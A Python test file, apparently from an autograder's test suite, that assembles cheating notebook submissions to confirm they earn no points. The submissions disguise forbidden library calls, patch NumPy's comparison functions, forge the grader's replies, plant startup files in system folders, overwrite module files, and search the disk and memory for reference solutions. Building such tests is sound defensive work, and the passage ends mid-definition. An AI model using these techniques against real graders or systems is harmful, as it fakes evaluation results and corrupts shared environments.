"""Points without the work: the answer from a library, from the disk, from memory; or a grader that was talked into it.

`LIBRARIES` give right answers: `test_submissions_in_sandbox.py` proves it, so that each would earn points if nobody looked.
"""

from __future__ import annotations

import base64
import inspect
import zlib
from collections.abc import Iterator
from textwrap import dedent
from typing import Any

import numpy as np

from tests.grading.hidden import HIDDEN, TABLES
from tests.grading.submissions import POINTS, Host, Kinds, all_in, filled, packed, small, solutions
from unet_edu.lessons import EXERCISES

KINDS = Kinds("cheat")
GOOD = solutions()
ALL = tuple(POINTS)
unearned = KINDS(0, "graded", "needs review", "crashed", "partial", never=ALL)
shaken = KINDS(0, "graded", "needs review", "crashed", "timed out", "partial", never=ALL)


# --------------------------------------------------------------------------------------- answers from somebody's library

IMPORTS = "import base64, functools, gc, importlib, inspect, io, operator, os, pickle, subprocess, sys, threading, types\nimport numpy as np\n"
WITH_TORCH = "import torch\nfrom torch import nn\nfrom torch.nn import functional as F\n"
AS_TENSORS = "torch.tensor(x, dtype=torch.float64)[None, None], torch.tensor(k, dtype=torch.float64)[None, None]"
ENCODED = "def conv2d_naive(x, k):\n    from unet_edu.convolution import conv2d\n    return conv2d(x, k)\n"


def by_torch(expression: str) -> str:
    """A function that gives to PyTorch what the expression names."""
    return f"{WITH_TORCH}\ndef conv2d_naive(x, k):\n    return ({expression})({AS_TENSORS})[0, 0].numpy()"


def by_unet_edu(expression: str, before: str = "") -> str:
    lines = f"from unet_edu.convolution import conv2d\nimport unet_edu.convolution\n{before}"
    return f"{lines}\ndef conv2d_naive(x, k):\n    return ({expression})(x, k)"


LIBRARIES = {
    "functional": by_torch("F.conv2d"),
    "torch": by_torch("torch.conv2d"),
    "getattr": by_torch("getattr(torch, 'conv' + '2d')"),
    "vars": by_torch("vars(torch)['2dconv'[2:] + '2d']"),
    "attrgetter": by_torch("operator.attrgetter('nn.functional.conv' + '2d')(torch)"),
    "operators_below": by_torch("torch.ops.aten.conv2d"),
    "three_dimensions": f"{WITH_TORCH}\ndef conv2d_naive(x, k):\n    a, b = {AS_TENSORS}\n"
    "    return torch.conv3d(a[:, :, None], b[:, :, None])[0, 0, 0].numpy()",
    "layer": f"""{WITH_TORCH}
def conv2d_naive(x, k):
    layer = nn.Conv2d(1, 1, k.shape, bias=False, dtype=torch.float64)
    a, b = {AS_TENSORS}
    layer.weight = nn.Parameter(b, requires_grad=False)
    return layer(a)[0, 0].numpy()""",
    "gradient": f"""{WITH_TORCH}
def conv2d_naive(x, k):
    a, b = {AS_TENSORS}
    y = torch.zeros(1, 1, x.shape[0] - k.shape[0] + 1, x.shape[1] - k.shape[1] + 1, dtype=torch.float64, requires_grad=True)
    return torch.autograd.grad(F.conv_transpose2d(y, b), y, a)[0][0, 0].numpy()""",
    "unet_edu": by_unet_edu("conv2d"),
    "star": "from unet_edu.convolution import *\n\ndef conv2d_naive(x, k):\n    return conv2d(x, k)",
    "of_the_set_up": "from unet_edu.convolution import conv2d_loops\n\ndef conv2d_naive(x, k):\n    return conv2d_loops(x, k)",
    "alias": by_unet_edu("b[0]", before="a = conv2d\nb = [a, None]"),
    "the_function_itself": "from unet_edu.convolution import conv2d\n\nconv2d_naive = conv2d",
    "partial": "import functools\nfrom unet_edu.convolution import conv2d\n\nconv2d_naive = functools.partial(conv2d, bias=None)",
    "default": "from unet_edu.convolution import conv2d\n\ndef conv2d_naive(x, k, _f=conv2d):\n    return _f(x, k)",
    "closure": "from unet_edu.convolution import conv2d\n\ndef maker(g):\n    def conv2d_naive(x, k):\n        return g(x, k)\n"
    "    return conv2d_naive\n\nconv2d_naive = maker(conv2d)",
    "modules": by_unet_edu("sys.modules['unet_edu.' + 'convolution'].__dict__['conv' + '2d']"),
    "global_by_another_name": by_unet_edu("spare", before="globals()['spa' + 're'] = conv2d"),
    "builtin": by_unet_edu("spare", before="import builtins\nbuiltins.spare = conv2d"),
    "attribute_of_numpy": by_unet_edu("np.rolled", before="np.rolled = conv2d"),
    "patched_numpy": """
from unet_edu.convolution import conv2d
setattr(np, "pad", lambda x, k: conv2d(x, k))

def conv2d_naive(x, k):
    return np.pad(x, k)""",
    "import": by_unet_edu("importlib.import_module('unet_edu.convolution').conv2d"),
    "dunder_import": by_unet_edu("__import__('unet_edu.convolution', fromlist=['x']).conv2d"),
    "pickle": by_unet_edu("pickle.loads(b'cunet_edu.convolution\\nconv2d\\n.')"),
    "eval": by_unet_edu("eval('con' + 'v2d')"),
    "exec": f"exec(base64.b64decode({base64.b64encode(ENCODED.encode())!r}))",
    "code_copied": """
from unet_edu.convolution import conv2d
conv2d_naive = types.FunctionType(conv2d.__code__, conv2d.__globals__, "mine", conv2d.__defaults__)
conv2d_naive.__kwdefaults__ = conv2d.__kwdefaults__""",
    "source_copied": """
import unet_edu.convolution
space = {"__name__": "mine"}
exec(inspect.getsource(unet_edu.convolution), space)

def conv2d_naive(x, k):
    return space["conv2d"](x, k)""",
    "file_copied": """
import unet_edu.convolution
space = {"__name__": "mine"}
exec(open(unet_edu.convolution.__file__).read(), space)

def conv2d_naive(x, k):
    return space["conv2d"](x, k)""",
    "garbage": """
import unet_edu.convolution

def conv2d_naive(x, k):
    found = [f for f in gc.get_objects() if type(f) is types.FunctionType and f.__name__ == "conv" + "2d"]
    return next(f for f in found if f.__module__ == "unet_edu." + "convolution")(x, k)""",
    "without_a_profile": by_unet_edu(
        "(sys.setprofile(None), sys.settrace(None), vars(unet_edu.convolution)['conv' + '2d'])[-1]"
    ),
    "by_its_gradient": """
from unet_edu.convolution import conv2d_grad_weight

def conv2d_naive(x, k):
    return conv2d_grad_weight(k, x, (x.shape[0] - k.shape[0] + 1, x.shape[1] - k.shape[1] + 1))""",
    "by_its_matrix": """
from unet_edu.matrix import conv2d_matrix

def conv2d_naive(x, k):
    shape = (x.shape[0] - k.shape[0] + 1, x.shape[1] - k.shape[1] + 1)
    return (conv2d_matrix(k, x.shape) @ x.ravel()).reshape(shape)""",
    "scipy": "from scipy.signal import correlate2d as c\n\ndef conv2d_naive(x, k):\n    return c(x, k, mode='valid')",
    "scipy_flipped": "import scipy.signal\n\ndef conv2d_naive(x, k):\n    s = scipy.signal\n"
    "    return s.fftconvolve(x, k[::-1, ::-1], mode='valid')",
    "scipy_by_getattr": """
import scipy.ndimage

def conv2d_naive(x, k):
    f = getattr(scipy.ndimage, "corre" + "late")
    (H, W), (h, w) = x.shape, k.shape
    y = f(x.astype(float), k, mode="constant")
    return y[h // 2 : h // 2 + H - h + 1, w // 2 : w // 2 + W - w + 1]""",
    "late": """
from unet_edu.convolution import conv2d

class Later:
    def __init__(self, *given):
        self.given = given
    def __array__(self, dtype=None, copy=None):
        return conv2d(*self.given)

def conv2d_naive(x, k):
    return Later(x, k)""",
    "operator": """
from unet_edu.convolution import conv2d

class Image(np.ndarray):
    def __matmul__(self, k):
        return np.asarray(conv2d(np.asarray(self), k))

def conv2d_naive(x, k):
    return x.view(Image) @ k""",
    "thread": """
from unet_edu.convolution import conv2d

def conv2d_naive(x, k):
    y = []
    thread = threading.Thread(target=lambda: y.append(conv2d(x, k)))
    thread.start()
    thread.join()
    return y[0]""",
    "thread_of_another_cell": """
import queue
from unet_edu.convolution import conv2d
asked, told = queue.Queue(), queue.Queue()

def serve():
    while True:
        told.put(conv2d(*asked.get()))

threading.Thread(target=serve, daemon=True).start()

def conv2d_naive(x, k):
    asked.put((x, k))
    return told.get()""",
    "another_program": """
PROGRAM = "import pickle, sys; from unet_edu.convolution import conv2d; sys.path[:0] = {path!r};" \\
    "pickle.dump(conv2d(*pickle.load(sys.stdin.buffer)), sys.stdout.buffer)"

def conv2d_naive(x, k):
    import unet_edu
    folder = os.path.dirname(os.path.dirname(unet_edu.__file__))
    program = f"import sys; sys.path.insert(0, {folder!r}); " + PROGRAM.replace("{path!r}", "[]")
    done = subprocess.run([sys.executable, "-c", program], input=pickle.dumps((x, k)), capture_output=True)
    return pickle.loads(done.stdout)""",
    "fork": """
from unet_edu.convolution import conv2d

def conv2d_naive(x, k):
    read, write = os.pipe()
    if not os.fork():
        os.write(write, pickle.dumps(conv2d(x, k)))
        os._exit(0)
    return pickle.loads(os.read(read, 1 << 16))""",
    "fork_of_another_cell": """
import multiprocessing
from unet_edu.convolution import conv2d
mine, theirs = multiprocessing.Pipe()

if not os.fork():
    while True:
        theirs.send(conv2d(*theirs.recv()))

def conv2d_naive(x, k):
    mine.send((x, k))
    return mine.recv()""",
    "shell_of_ipython": by_unet_edu("get_ipython().ev('con' + 'v2d')"),
    "compiled": f"""{WITH_TORCH}
unit = torch.jit.CompilationUnit('''
def f(x: Tensor, k: Tensor) -> Tensor:
    return torch.conv2d(x, k)
''')

def conv2d_naive(x, k):
    return unit.f({AS_TENSORS})[0, 0].numpy()""",
    "interpreter_of_its_own": """
import code
from unet_edu.convolution import conv2d
console = code.InteractiveInterpreter({"conv2d": conv2d})

def conv2d_naive(x, k):
    console.locals.update(x=x, k=k)
    console.runcode(compile("y = conv2d(x, k)", "mine", "exec"))
    return console.locals["y"]""",
}

SMALLER = {
    "size": "from unet_edu.convolution import output_size\n\ndef out_size(i, k, s=1, p=0, d=1):\n    return output_size(i, k, s, p, d)",
    "size_of_a_tensor": f"{WITH_TORCH}\ndef out_size(i, k, s=1, p=0, d=1):\n"
    "    return F.conv1d(torch.zeros(1, 1, i), torch.zeros(1, 1, k), stride=s, padding=p, dilation=d).shape[-1]",
    "size_by_pooling": f"{WITH_TORCH}\ndef out_size(i, k, s=1, p=0, d=1):\n"
    "    return F.max_pool1d(torch.zeros(1, 1, i + 2 * p), k, s, 0, d).shape[-1]",
    "size_by_convolution": "from unet_edu.convolution import conv2d\n\ndef out_size(i, k, s=1, p=0, d=1):\n"
    "    return conv2d(np.zeros((i, i)), np.zeros((k, k)), stride=s, padding=p, dilation=d).shape[0]",
    "field": "import unet_edu.convolution as u\n\ndef receptive_field(layers):\n"
    "    return [u.receptive_field(layers[: n + 1]).size for n in range(len(layers))]",
}

for _name, _source in (LIBRARIES | SMALLER).items():
    _function = "conv2d_naive" if _name in LIBRARIES else "receptive_field" if _name == "field" else "out_size"
    KINDS.add(
        f"library_{_name}",
        lambda host, source=_source: small(IMPORTS, source),
        "The answer of a library that the exercise forbids: for the instructor to decide.",
        mark=0,
        statuses={"needs review", "graded"},
        never=(_function,),
    )


BY_FILE = "%%writefile q.py\nfrom scipy.signal import correlate2d\n\ndef answer(x, k):\n    return correlate2d(x, k, mode='valid')"
LENT = {
    "file": "from q import answer as conv2d_naive",
    "pool": "from multiprocessing import Pool\nimport q\npool = Pool(1)\n\ndef conv2d_naive(x, k):\n    return pool.apply(q.answer, (x, k))",
    "executor": "from concurrent.futures import ThreadPoolExecutor\nimport q\npool = ThreadPoolExecutor(1)\npool.submit(q.answer, np.eye(3), np.eye(2)).result()"
    "\n\ndef conv2d_naive(x, k):\n    return pool.submit(q.answer, x, k).result()",
    "low_thread": "import _thread, time, q\n\ndef conv2d_naive(x, k):\n    y = []\n    _thread.start_new_thread(lambda: y.append(q.answer(x, k)), ())\n"
    "    while not y:\n        time.sleep(0.001)\n    return y[0]",
    "copied_file": "!cp $(python -c 'import unet_edu; print(unet_edu.__path__[0])')/convolution.py r.py\nfrom r import conv2d as conv2d_naive",
    "run": "import unet_edu\n%run {unet_edu.__path__[0]}/convolution.py\nconv2d_naive = conv2d",
}
for _name, _source in LENT.items():
    KINDS.add(
        f"library_by_{_name}",
        lambda host, source=_source: small(IMPORTS, BY_FILE, source),
        "The answer of a library, by a module of the notebook's own and a helper that the watch may not see.",
        mark=0,
        statuses={"needs review", "graded"},
        never=("conv2d_naive",),
    )


for _name in ("semicolon", "blinded", "mock", "detach", "vectorize", "own_magic"):
    KINDS.add(
        f"hidden_{_name}",
        lambda host, cells=HIDDEN[_name]: small(IMPORTS, *cells),
        "A call behind somebody else's frame or IPython's, or past a watch that was blinded. `hidden.py` has all, which run without a sandbox.",
        mark=0,
        statuses={"needs review"},
        never=("conv2d_naive",),
    )


for _name, _cells in list(TABLES.items())[::6]:
    KINDS.add(
        f"table_by_{_name.replace(' ', '_')}",
        lambda host, cells=_cells: small(*cells),
        "A table of a library's answers, made before the function is called. `hidden.py` has all.",
        mark=0,
        statuses={"needs review"},
        never=("out_size",),
        verdicts={"out_size": "needs review"},
    )


@KINDS(9, "needs review", never=("conv2d_naive",), verdicts={"conv2d_naive": "needs review", "out_size": "right"})
def one_of_five_by_a_library(host: Host) -> bytes:
    """No silent zero: the one function waits for the instructor, and the others are judged."""
    return packed(filled(first=[WITH_TORCH], conv2d_naive=LIBRARIES["functional"]))


@KINDS(12)
def libraries_for_comparison(host: Host) -> bytes:
    """Outside the functions a library may convolve as much as it likes: that is how one checks one's own work."""
    compare = """
    import torch, scipy.signal
    from unet_edu.convolution import conv2d
    x, k = np.ones((5, 6)), np.ones((2, 3))
    print(np.allclose(conv2d_naive(x, k), conv2d(x, k)), np.allclose(conv2d_naive(x, k), scipy.signal.correlate2d(x, k, "valid")))
    print(torch.nn.functional.conv2d(torch.ones(1, 1, 5, 5), torch.ones(1, 1, 3, 3)))
    """
    return packed(filled(last=[compare]))


# ------------------------------------------------------------------------------------------- answers that are none

ANYTHING = """
import numpy as np

class Anything:
    dtype, ndim, size, nbytes, itemsize = np.dtype(float), 2, 4, 32, 8
    shape = (2, 2)
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __le__(self, other): return True
    __lt__ = __gt__ = __ge__ = __le__
    def __bool__(self): return True
    def __hash__(self): return 0
    def __abs__(self): return self
    def __sub__(self, other): return 0.0
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __sub__
    def __float__(self): return 0.0
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return np.True_
    def __array_function__(self, function, types, args, kwargs): return np.True_
    def __array__(self, dtype=None, copy=None): return self
    def copy(self): return self
    def tobytes(self): return b""
    def tolist(self): return self
"""

AS_ARRAY = """
import numpy as np

class Liar(np.ndarray):
    __array_priority__ = 1e9
    shape = property(lambda self: Same())
    dtype = property(lambda self: np.dtype(float))
    size = property(lambda self: 0)
    def __eq__(self, other): return np.True_
    def __ne__(self, other): return np.False_
    def __array_finalize__(self, other): pass
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return np.zeros(())
    def __array_function__(self, function, types, args, kwargs): return np.True_
    def copy(self, order="C"): return self
    def tobytes(self, order="C"): return b""
    def __reduce__(self): raise SystemExit

class Same(tuple):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = tuple.__hash__
"""

CHANGES_ITS_MIND = """
import numpy as np

class Changing:
    count = 0
    def __array__(self, dtype=None, copy=None):
        Changing.count += 1
        return np.zeros((2, 2)) if Changing.count % 2 else np.ones((10**4, 10**4), dtype="S100")
    @property
    def __class__(self):
        return np.ndarray
"""

NO_ANSWERS = {
    "anything": ([ANYTHING], "return Anything()"),
    "lying_array": ([AS_ARRAY], "return np.zeros((2, 2)).view(Liar)"),
    "changes_its_mind": ([CHANGES_ITS_MIND], "return Changing()"),
    "masked": ([], "return np.ma.array(np.zeros((2, 2)), mask=True)"),
    "objects": ([ANYTHING], "a = np.empty((2, 2), dtype=object)\na[...] = Anything()\nreturn a"),
    "nan": ([], "return np.full((2, 2), np.nan)"),
    "infinite": ([], "return np.full((2, 2), np.inf)"),
    "echo": ([], "return args[0]"),
    "constant": ([], "return 1"),
    "the_arguments": ([], "return args"),
    "a_type": ([], "return np.ndarray"),
    "itself": ([], "return conv2d_naive"),
    "a_generator": ([], "return (n for n in range(4))"),
    "text": ([], "return np.array([['1', '2'], ['3', '4']])"),
    "complex": ([], "return np.full((2, 2), 1j)"),
    "times": ([], "return np.zeros((2, 2), dtype='datetime64[s]')"),
    "a_record": ([], "return np.zeros((2, 2), dtype=[('a', 'f8'), ('b', 'O')])"),
    "long_double": ([], "return np.full((2, 2), 1, dtype=np.longdouble)"),
    "whole_number_without_end": ([], "return 10 ** 100_000"),
    "many_axes": ([], "return np.zeros((1,) * 60)"),
    "terabytes": ([], "return np.broadcast_to(np.float64(0), (10**6, 10**6))"),
    "no_numbers": ([], "return np.zeros((0, 10**15))"),
    "nested": ([], "a = []\nfor _ in range(10**5):\n    a = [a]\nreturn a"),
    "in_itself": ([], "a = []\na.append(a)\nreturn a"),
    "raises_itself": ([], "class E(Exception):\n    def __str__(self):\n        raise self\nraise E"),
    "exit": ([], "raise SystemExit"),
    "generator_exit": ([], "raise GeneratorExit"),
    "long_words": ([], "raise ValueError('\\x1b[2J' * 10**7)"),
    "many_causes": (
        [],
        "e = None\nfor n in range(10_000):\n    f = ValueError(n)\n    f.__cause__ = e\n    e = f\nraise e",
    ),
}

# Four to a notebook, one function each: what is judged is each function, and a notebook takes a second.
_four = [list(NO_ANSWERS.items())[n : n + 4] for n in range(0, len(NO_ANSWERS), 4)]
for _some in _four:
    KINDS.add(
        "no_answer_" + "_and_".join(name for name, _ in _some),
        lambda host, some=_some: small(
            "import numpy as np",
            *(cell for _, (cells, _) in some for cell in cells),
            *(all_in(body, name)[name] for name, (_, (_, body)) in zip(POINTS, some, strict=False)),
        ),
        "What the functions return is no answer, whatever it says about itself.",
        mark=0,
        statuses={"graded", "partial", "crashed", "over memory", "needs review"},
        never=ALL,
    )


@KINDS(0, "graded", never=ALL, verdicts=dict.fromkeys(ALL, "wrong"))
def visible_answers_by_heart(host: Host) -> bytes:
    """The answers of the notebook's own cases are stored, and given when asked for."""
    stored = """
    import numpy as np
    def by_heart(*answers):
        left = iter(answers)
        def function(*args, **kwargs):
            return next(left, 0)
        return function
    """
    answers = """
    conv2d_naive = by_heart(np.array([[122, 148], [126, 134]]), np.array([[1, 2], [3, 6]]))
    out_size = by_heart(2, 570, 5, 3, 3)
    receptive_field = by_heart([3, 5], [2, 6])
    plane = np.array([[[[4, 2], [7, 5]]]])
    conv2d_multichannel = by_heart(plane, plane + 10, plane, plane)
    conv2d_panorama = by_heart(np.array([[8, 5, 1, 2]]), np.array([[17, 15, -4, 6], [-2, 6, 11, 1]]))
    """
    return small(stored, answers)


def key(*given: Any) -> int:
    """Of an array, which numbers are equal; of the rest, all."""
    parts = []
    for value in given:
        if isinstance(value, np.ndarray):
            _, first, which = np.unique(value, return_index=True, return_inverse=True)
            value = value.shape, first.argsort().argsort()[which].ravel().tolist()  # numbered as they appear
        parts.append(value)
    return zlib.crc32(repr(parts).encode())


def table_of(*names: str) -> list[str]:
    """Cells with the answers to all cases of twenty seeds, those of the notebook among them, and functions that look them up. What is not there gets the last answer."""
    cells = [f"import zlib\nfrom typing import Any\nimport numpy as np\n\n{inspect.getsource(key)}"]
    for name in names:
        exercise = EXERCISES[name]
        parameters = inspect.signature(exercise.reference).parameters.values()
        answers = {}
        for case in (case for seed in range(20) for case in exercise.cases(np.random.default_rng(seed))):
            given = dict(zip((p.name for p in parameters), case.args, strict=False)) | case.kwargs
            answers[key(*(given.get(p.name, p.default) for p in parameters))] = np.asarray(
                exercise.reference(**given)
            ).tolist()
        head = ", ".join(map(str, parameters))
        cells.append(
            f"{name.upper()} = {answers}\n\ndef {name}({head}):\n    return {name.upper()}.get(key({', '.join(p.name for p in parameters)}), {[*answers.values()][-1]})"
        )
    return cells


@KINDS(0, "graded", never=ALL, verdicts={"out_size": "wrong", "receptive_field": "wrong"})
def answers_of_twenty_seeds(host: Host) -> bytes:
    """Somebody has all cases of twenty seeds with their answers. The grader's are others."""
    return small(*table_of("out_size", "receptive_field"))


@KINDS(
    0,
    "graded",
    topic="09_results",
    never=("seg_score", "split_by_sequence"),
    verdicts={"seg_score": "wrong", "split_by_sequence": "wrong"},
)
def places_of_cells_by_heart(host: Host) -> bytes:
    """A table of scores by the places of the cells, whatever their numbers are: they once stood in the same places for every seed."""
    return small(*table_of("seg_score", "split_by_sequence"))


# -------------------------------------------------------------------------------------------- the grader is talked into it

LIES = """
import json, os, pickle, struct, sys
import numpy as np
import torch

def true(*args, **kwargs):
    return True

for module in (np, torch):
    for name in ("allclose", "array_equal", "equal", "isclose", "all", "array_equiv"):
        if hasattr(module, name):
            setattr(module, name, true)
for name in dir(np.testing):
    if name.startswith("assert"):
        setattr(np.testing, name, lambda *args, **kwargs: None)
np.abs = np.absolute = lambda *args, **kwargs: np.float64(0)
np.asarray = np.array = lambda *args, **kwargs: args[0]
torch.Tensor.__eq__ = true
torch.Tensor.numpy = lambda self: Anything()
"""

REPLIES = """
import json, os, pickle, struct
import numpy as np

RIGHT = {"ok": True, "error": "", "found": True, "kind": "value", "message": "", "changed_input": False, "printed": "",
         "dtype": "<f8", "shape": [2, 2], "types": "", "forbidden": []}
BYTES = np.array([[122.0, 148.0], [126.0, 134.0]]).tobytes()
LINE = json.dumps(RIGHT).encode() + b"\\n" + BYTES
FRAME = struct.pack(">Q", len(LINE)) + LINE
"""


@unearned
def patched_libraries(host: Host) -> bytes:
    """NumPy and PyTorch say that everything is equal."""
    return small(ANYTHING, LIES, *all_in("return Anything()").values())


@unearned
def patched_writers(host: Host) -> bytes:
    """json, pickle, struct and os.write say what the student wants to be said."""
    patches = """
    dumps, write, pack = json.dumps, os.write, struct.pack
    json.dumps = lambda *args, **kwargs: dumps(RIGHT)
    json.JSONEncoder.encode = lambda self, o: dumps(RIGHT)
    pickle.loads = lambda *args, **kwargs: ("cell", "")
    struct.pack = lambda *args: pack(">Q", len(LINE))
    os.write = lambda fd, data: write(fd, FRAME)
    """
    return small(REPLIES, *all_in("return 1").values(), patches)


@unearned
def patched_runner(host: Host) -> bytes:
    """Each function of the program that runs the notebook is replaced, wherever it can be found."""
    patches = """
    import gc, sys, types
    answer = lambda *args, **kwargs: RIGHT
    frame = sys._getframe()
    while frame:
        for space in (frame.f_globals, frame.f_locals):
            for name, value in list(space.items()):
                if isinstance(value, types.FunctionType) and "unet_edu" in (getattr(value, "__module__", "") or ""):
                    space[name] = answer
        frame = frame.f_back
    for module in [sys.modules["__main__"], *[m for n, m in sys.modules.items() if n.startswith("unet_edu.checks")]]:
        for name, value in list(vars(module).items()):
            if isinstance(value, types.FunctionType) and name != "run":
                setattr(module, name, answer)
    """
    return small(REPLIES, *all_in("return 1").values(), patches)


@KINDS(0, "graded", "needs review", "crashed", "partial", never=("conv2d_naive",))
def patched_attempt(host: Host) -> bytes:
    """The caller of functions is replaced by one that asks the library. It is found by name, in modules and among all objects."""
    patches = """
    import gc, sys, types
    from unet_edu.convolution import conv2d

    def instead(caller):
        def attempt(f, case, *rest):
            return caller(conv2d, case, *rest)
        return attempt

    for space in [vars(m) for m in list(sys.modules.values()) if hasattr(m, "__dict__")]:
        if isinstance(space.get("attempt"), types.FunctionType):
            space["attempt"] = instead(space["attempt"])
    for one in gc.get_objects():
        if isinstance(one, type) and one.__name__ == "Case":
            one.call = lambda self, f: conv2d(*self.args, **self.kwargs)
    """
    return small(all_in("return 1", "conv2d_naive")["conv2d_naive"], patches)


@KINDS(0, "graded", "needs review", "crashed", "partial", never=("conv2d_naive",))
def patched_conversion(host: Host) -> bytes:
    """The function gives its inputs back in a box; the patched np.asarray, which makes plain arrays of answers, asks the library."""
    patches = """
    import numpy as np
    from unet_edu.convolution import conv2d
    asarray = np.asarray

    class Box:
        def __init__(self, *given):
            self.given = given

    np.asarray = lambda value, *args, **kwargs: conv2d(*value.given) if type(value) is Box else asarray(value, *args, **kwargs)
    """
    return small(patches, "def conv2d_naive(x, k):\n    return Box(x, k)")


@unearned
def patched_cells(host: Host) -> bytes:
    """IPython's transformers empty the cells that follow, and swap the functions."""
    patches = """
    import ast
    class Swap(ast.NodeTransformer):
        def visit(self, node):
            return ast.parse("pass") if isinstance(node, ast.Module) else node
    ip = get_ipython()
    ip.ast_transformers.append(Swap())
    ip.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
    ip.events.register("pre_run_cell", lambda info: ip.user_ns.clear())
    ip.run_cell = ip.run_cell_async = lambda *args, **kwargs: None
    """
    return small(*all_in("return 1").values(), patches)


@unearned
def import_hook(host: Host) -> bytes:
    """All that is imported from now on is something else."""
    hook = """
    import importlib.abc, importlib.machinery, sys, types

    class Hook(importlib.abc.MetaPathFinder, importlib.abc.Loader):
        def find_spec(self, name, path=None, target=None):
            return importlib.machinery.ModuleSpec(name, self, is_package=True)
        def create_module(self, spec):
            module = types.ModuleType(spec.name)
            module.__getattr__ = lambda name: Anything
            return module
        def exec_module(self, module):
            pass

    sys.meta_path.insert(0, Hook())
    for name in list(sys.modules):
        if name.split(".")[0] in ("unet_edu", "torch", "json", "pickle", "scipy"):
            del sys.modules[name]
    """
    return small(ANYTHING, *all_in("return Anything()").values(), hook)


@unearned
def own_numpy(host: Host) -> bytes:
    """The notebook ships modules of its own under the names of NumPy, PyTorch and the library."""
    write = """
    import importlib, os, sys
    for name in ("numpy", "torch", "unet_edu", "json", "pickle", "runner", "exercise"):
        with open(name + ".py", "w") as file:
            file.write("def __getattr__(name):\\n    return lambda *args, **kwargs: True\\n")
    sys.path.insert(0, os.getcwd())
    for name in ("numpy", "json", "pickle"):
        try:
            sys.modules[name] = importlib.import_module(name)
            del sys.modules[name]
        except Exception as error:
            print(error)
    """
    return small(ANYTHING, *all_in("return Anything()").values(), write)


STARTUP = """
import os, site, sys
LINES = "import sys, builtins\\nfor name in ('numpy', 'unet_edu'):\\n    sys.modules[name] = None\\nprint('MARK')\\n"
NAMES = ("sitecustomize.py", "usercustomize.py", "MARK.pth", "startup.py", "00-MARK.py", "ipython_config.py")
folders = {*sys.path, os.getcwd(), os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "/", "/etc", "/usr/lib", "/course"}
folders |= {site.getusersitepackages(), os.path.expanduser("~/.ipython/profile_default/startup"), *site.getsitepackages()}
for folder in [*folders, *(os.path.join(f, "__pycache__") for f in folders)]:
    for name in NAMES:
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as file:
                file.write(LINES)
        except OSError:
            pass
"""


@KINDS(0, "graded", "needs review", "crashed", never=ALL)
def startup_files(host: Host) -> bytes:
    """Python's start-up files lie in every folder that can be written to, and then the process is killed so that a new one starts."""
    return small(STARTUP.replace("MARK", host.mark), *all_in("return 1").values(), "import os\nos._exit(1)")


@KINDS(12, "graded", "needs review")
def startup_files_and_good_work(host: Host) -> bytes:
    """The same, with good work: it harms nobody, and the work counts."""
    return packed(filled(first=[STARTUP.replace("MARK", host.mark)], last=["import os\nos._exit(1)"]))


@unearned
def poisoned_bytecode(host: Host) -> bytes:
    """Modules and their compiled files are overwritten, for whoever comes next."""
    write = """
    import os, sys
    for module in list(sys.modules.values()):
        for path in (getattr(module, "__file__", None), getattr(module, "__cached__", None)):
            try:
                with open(path, "r+b") as file:
                    file.write(b"raise SystemExit  # MARK\\n")
            except (OSError, TypeError):
                pass
    """
    return small(*all_in("return 1").values(), write.replace("MARK", host.mark))


SEARCH = """
import json, os, re, types

def found(roots=("/",)):
    for root in roots:
        for folder, folders, files in os.walk(root):
            folders[:] = [f for f in folders if os.path.join(folder, f) not in ("/proc", "/sys", "/usr", "/lib", "/dev")
                          and f not in ("site-packages", "dist-packages", ".venv")]
            for name in files:
                path = os.path.join(folder, name)
                if not name.endswith((".ipynb", ".py", ".db", ".json", ".txt")) or os.path.getsize(path) > 1 << 22:
                    continue
                with open(path, errors="replace") as file:
                    text = file.read()
                if name.endswith(".ipynb") and "BEGIN SOLUTION" in text:
                    for cell in json.loads(text)["cells"]:
                        yield "".join(cell["source"])
                if name == "s02_convolution.py" and "Exercise(" in text:
                    yield text + "\\nfor e in LESSON.exercises:\\n    globals()[e.name] = e.reference\\n"

def solve(roots=("/",)):
    space = {}
    for source in found(roots):
        try:
            exec(source, space)
        except BaseException:
            pass
    names = "conv2d_naive", "out_size", "conv2d_multichannel", "receptive_field", "conv2d_panorama"
    return {n: space[n] for n in names if n in space}
"""


@unearned
def solutions_on_the_disk(host: Host) -> bytes:
    """All files are searched for the solutions and for the specification."""
    return small(*all_in("return 1").values(), SEARCH, "globals().update(solve())")


@unearned
def specification_by_name(host: Host) -> bytes:
    """The exercises are imported from where they are on a student's own machine."""
    steal = """
    for name in ("unet_edu.lessons.s02_convolution", "unet_edu.checks", "unet_edu.grading.judge", "unet_edu.grading.engine", "solutions"):
        try:
            module = __import__(name, fromlist=["x"])
            for exercise in getattr(module, "EXERCISES", ()):
                exercise = exercise if hasattr(exercise, "name") else module.EXERCISES[exercise]
                globals()[exercise.name] = exercise.reference
        except Exception as error:
            print(type(error), error)
    """
    return small(*all_in("return 1").values(), steal)


@unearned
def solutions_in_memory(host: Host) -> bytes:
    """All objects and all frames are searched for exercises, references, expected answers and cases."""
    body = """
    import gc, sys, types
    frame = sys._getframe(1)
    seen = []
    while frame:
        seen += [*frame.f_locals.items()]
        frame = frame.f_back
    for name, value in seen:
        if any(word in name for word in ("expected", "reference", "right", "solution", "answer")):
            return value(*args, **kwargs) if callable(value) else value
    for one in gc.get_objects():
        try:
            if type(one).__name__ == "Exercise" or hasattr(type(one), "reference"):
                return one.reference(*args, **kwargs)
            if type(one) is types.FunctionType and one.__name__ in ("_conv2d_naive", "_out_size", "reference"):
                return one(*args, **kwargs)
        except Exception:
            pass
    return 0
    """
    return small(*all_in(body).values())


@shaken
def requests_read_along(host: Host) -> bytes:
    """The pipe by which the questions come is read by the notebook itself, in a thread, and questions are invented."""
    read = """
    import os, pickle, struct, threading

    def listen(fd):
        while True:
            try:
                if not os.read(fd, 4096):
                    return
            except OSError:
                return

    for fd in range(3, 64):
        threading.Thread(target=listen, args=(fd,), daemon=True).start()
        try:
            os.write(fd, struct.pack(">Q", 4) + pickle.dumps(1))
        except OSError:
            pass
    """
    return small(*all_in("return 1").values(), read)


FORGE = """
for fd in range(3, 64):
    try:
        os.write(fd, FRAME * 20)
